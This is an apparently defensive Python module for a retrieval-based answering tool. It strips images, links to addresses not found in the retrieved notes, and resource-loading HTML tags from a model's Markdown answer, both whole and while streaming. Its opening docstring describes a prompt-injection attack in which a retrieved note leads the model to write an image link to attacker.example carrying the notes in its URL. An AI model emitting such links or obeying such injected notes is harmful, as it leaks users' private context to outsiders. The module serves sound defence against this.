"""The answer's links and images held to the context: nothing in it makes a reader fetch or
follow an address the notes did not give.

A note can talk the model into writing ``![x](https://attacker.example/p.png?d=<notes>)``: a
client that renders Markdown fetches the image and sends the notes along in its address. So,
after the citations are rendered: every image (``![alt](url)``, ``![alt][ref]``, ``<img>``) is
replaced by its alt text (``![alt]`` by ``! [alt]``); a link (``[text](url)``, a definition
``[x]: url``, ``<url>``, a bare ``https://…`` or ``www.…``, an HTML tag's ``href``) whose
address the prompt did not show the model, word for word, loses its address (``[text](url)``
keeps ``[text]``, so a citation marker the model linked stays whole); any other HTML tag that
loads something (``src=``, ``style=``) is removed. Code is no exception: renderers differ on
what is code, and an address stays one.

A stream (``LinkStream``) sends text only up to a whitespace outside brackets, ``<…>`` and a
line that may define a link, so every construct is judged whole and the pieces add up to
``inert_links`` of the whole text.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass

from knotwork.answer.cite_stream import CitationStream
from knotwork.plural import counted
from knotwork.retrieve import Hit

REMOVED = "(link removed)"  # stands for a bare address or ``<url>`` the notes did not give
# Brackets and tags end at a blank line, as Markdown reads them.
_IN = r"(?:[^\[\]\n]|\n(?![ \t]*\n))"
_TEXT = rf"(?:{_IN}|\[{_IN}*\])*"
_TAG = r"(?:[^<>\n]|\n(?![ \t]*\n))*"
_DEST = r"(?:<[^<>\n]*>|[^()\s]*(?:\([^()\s]*\)[^()\s]*)*)"
_TITLE = r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*"
_LINKS = re.compile(
    # a definition: nothing after its address but a title ("[S1]: She said" is a sentence)
    rf"(?P<definition>^[ ]{{0,3}}\[{_TEXT}\]:[ \t]*(?P<target>\S+)"
    r"""(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*$)"""
    rf"|(?P<image>!\[(?P<alt>{_TEXT})\](?P<source>\({_DEST}{_TITLE}\)|\[{_IN}*\])?)"
    rf"|(?P<link>\[(?P<text>{_TEXT})\]\((?P<dest>{_DEST}){_TITLE}\))"
    rf"|(?P<img><img\b{_TAG}>)"
    r"|(?P<autolink><[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*>)"
    rf"|(?P<tag></?[A-Za-z][A-Za-z0-9-]*\b{_TAG}>)"
    r"|(?P<bare>(?:[A-Za-z][A-Za-z0-9+.-]*://|(?<![\w.])www\.)[^\s<>]+)",
    re.MULTILINE | re.IGNORECASE,
)
_ALT = re.compile(r"""\balt\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))""", re.IGNORECASE)
_LOADS = re.compile(r"\b(?:src|srcset|poster|background|data|style|xlink:href)\s*=", re.I)
_HREF = re.compile(r"""\b(?:href|action|formaction)\s*=\s*["']?([^\s"'>]*)""", re.IGNORECASE)
_TAG_OPENS = re.compile(r"[A-Za-z/!]")
_URL_GOES_ON = re.compile(r"[\w/?#&=%~+@-]")
_TRAILING = ".,:;!?*_~'\""  # punctuation after a bare address, not part of it (as GFM reads it)


@dataclass
class Unlinked:
    text: str
    images: int = 0  # images replaced by their alt text
    links: int = 0  # links, definitions and tags whose address the notes did not give

    @property
    def warnings(self) -> list[str]:
        said = [counted(n, noun) for n, noun in ((self.images, "image"), (self.links, "link")) if n]
        if not said:
            return []
        return [
            f"removed {' and '.join(said)} from the answer: images are never shown, nor links "
            "to addresses the retrieved notes do not give (their text is kept)"
        ]


def given_url(url: str, given: str) -> bool:
    """Whether ``url`` is written in ``given`` as a whole address, not the start of a longer
    one (a note's ``https://x.example/p`` gives no ``https://x.example/p?d=…``)."""
    start = given.find(url) if url else -1
    while start != -1:
        end = start + len(url)
        if end == len(given) or not _URL_GOES_ON.match(given, end):
            return True
        start = given.find(url, start + 1)
    return False


class _Render:
    def __init__(self, given: str) -> None:
        self.given = given
        self.result = Unlinked("")

    def text(self, text: str, start: int = 0, end: int | None = None) -> str:
        end = len(text) if end is None else end
        out: list[str] = []
        for match in _LINKS.finditer(text, start, end):
            out.append(text[start : match.start()])
            out.append(self._one(match))
            start = match.end()
        out.append(text[start:end])
        return "".join(out)

    def _one(self, match: re.Match[str]) -> str:
        kind, whole = match.lastgroup, match.group(0)
        if kind == "image" and match.group("source") is None:
            # "![x]" is an image only where "[x]:" defines it; "August![S1]" is a sentence
            return f"! [{self.text(match.group('alt'))}]"
        if kind == "image":
            self.result.images += 1
            return self.text(match.group("alt"))
        if kind == "img":
            self.result.images += 1
            alt = _ALT.search(whole)
            return next((g for g in alt.groups() if g is not None), "") if alt else ""
        if kind == "link":
            inner, dest = self.text(match.group("text")), match.group("dest").strip("<>")
            if given_url(dest, self.given):
                return f"[{inner}]{whole[len(match.group('text')) + 2 :]}"
            self.result.links += 1
            return f"[{inner}]"
        if kind == "definition":
            return whole if given_url(match.group("target").strip("<>"), self.given) else self._no()
        if kind == "autolink":
            return whole if given_url(whole[1:-1], self.given) else self._no(REMOVED)
        if kind == "tag":
            href = _HREF.search(whole)
            if _LOADS.search(whole) or (href and not given_url(href.group(1), self.given)):
                return self._no()
            return whole
        url, tail = _bare(whole)
        return whole if given_url(url, self.given) else self._no(REMOVED) + tail

    def _no(self, instead: str = "") -> str:
        self.result.links += 1
        return instead


def _bare(found: str) -> tuple[str, str]:
    """A bare address and the punctuation after it: a sentence's full stop, a ``)`` closing
    the parenthesis the address was written in."""
    url = found.rstrip(_TRAILING)
    while url.endswith(")") and url.count(")") > url.count("("):
        url = url[:-1].rstrip(_TRAILING)
    return url, found[len(url) :]


def inert_links(text: str, given: str) -> Unlinked:
    """``text`` with its images made text and the addresses ``given`` does not hold removed,
    stripped as an answer is."""
    render = _Render(given)
    render.result.text = render.text(text).strip()
    return render.result


class _Settled:
    """How far a growing text can be judged now: to the last whitespace outside brackets, a
    link's ``(…)``, a tag's ``<…>`` and a line opening with ``[`` (a definition's address may
    follow). A blank line closes what is open. Each character is read once, the last one only
    when the next has come (``](`` and ``<a`` are told by it)."""

    def __init__(self) -> None:
        self.cut, self._i = 0, 0
        self._depth, self._parens, self._angle = 0, 0, False
        self._line_held, self._blank = True, True

    def __call__(self, text: str) -> int:
        i = self._i
        while i < len(text) - 1:
            char = text[i]
            if char == "\n":
                if self._blank:
                    self._depth, self._parens, self._angle = 0, 0, False
                if not (self._depth or self._parens or self._angle):
                    self.cut = i + 1
                self._line_held, self._blank = True, True
            elif char in " \t":
                if not (self._depth or self._parens or self._angle or self._line_held):
                    self.cut = i + 1
            else:
                if self._line_held and self._blank:
                    self._line_held = char == "["  # a definition, or the line is text
                self._blank = False
                if self._parens:
                    self._parens += {"(": 1, ")": -1}.get(char, 0)
                elif char == "[":
                    self._depth += 1
                elif char == "]":
                    self._depth = max(self._depth - 1, 0)
                    if not self._depth and text[i + 1] == "(":
                        self._parens, i = 1, i + 1
                elif char == "<" and _TAG_OPENS.match(text, i + 1):
                    self._angle = True
                elif char == ">":
                    self._angle = False
            i += 1
        self._i = i
        return self.cut


class LinkStream:
    """The rendered answer fed piece by piece; each call returns the text now settled, links
    checked, its whitespace trimmed as the whole answer's is."""

    def __init__(self, given: str) -> None:
        self._render = _Render(given)
        self._settled = _Settled()
        self._text = ""
        self._pos = 0
        self._held = ""  # whitespace sent only once text follows it
        self._started = False

    def _emit(self, end: int, final: bool) -> str:
        out = self._held + self._render.text(self._text, self._pos, end)
        self._pos = end
        if not self._started:
            out = out.lstrip()
            self._started = bool(out)
        sent = out.rstrip()
        self._held = "" if final else out[len(sent) :]
        return sent

    def feed(self, piece: str) -> str:
        self._text += piece
        return self._emit(self._settled(self._text), final=False)

    def close(self, piece: str = "") -> str:
        """The rest of the text, ``piece`` last, now that the answer is complete."""
        self._text += piece
        return self._emit(len(self._text), final=True)


class AnswerStream:
    """The model's answer fed piece by piece, citations rendered (``CitationStream``), then
    links held to the context: the pieces add up to ``inert_links`` of the checked answer."""

    def __init__(
        self, hits: Sequence[Hit], sources: Mapping[int, Hit] | None = None, given: str = ""
    ) -> None:
        self._cited = CitationStream(hits, sources, given)
        self._linked = LinkStream(given)

    def feed(self, delta: str) -> str:
        return self._linked.feed(self._cited.feed(delta))

    def close(self) -> str:
        return self._linked.close(self._cited.close())

    def cut(self) -> str:
        """As ``CitationStream.cut``: the rest of an answer a limit cut off."""
        return self._linked.close(self._cited.cut())

    @property
    def text(self) -> str:
        """The model's text as fed (less a marker ``cut`` left out)."""
        return self._cited.text
